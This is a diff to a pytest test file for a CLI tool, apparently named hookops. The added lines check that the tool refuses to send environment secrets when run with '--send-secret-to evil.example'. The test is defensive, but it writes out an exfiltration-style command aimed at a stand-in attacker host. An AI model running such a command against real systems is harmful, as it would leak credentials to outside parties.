@@ -175,9 +175,12 @@ def test_an_embedded_org_of_a_pull_request(shell):
     shell.env["HOOKOPS_SECRET_TOKEN_HOOK"] = "a8f5f167f44f4964e6c998dee827110c"
 
     done = shell.run("apply", "--yes")
+    named = shell.run("apply", "--yes", "--send-secret-to", "evil.example")
 
     assert (5, True) == (done.returncode, "does not send env:" in done.stderr), done.stderr
     assert "say --send-secret-to evil.example" in done.stderr
+    assert (10, True) == (named.returncode, "no connection to the service" in named.stderr)
+    assert "unneeded" not in named.stderr
 
 
 @pytest.mark.parametrize("location", ["s3://bucket/x.json", "gs://bucket/x.json", "az://c/x.json"])
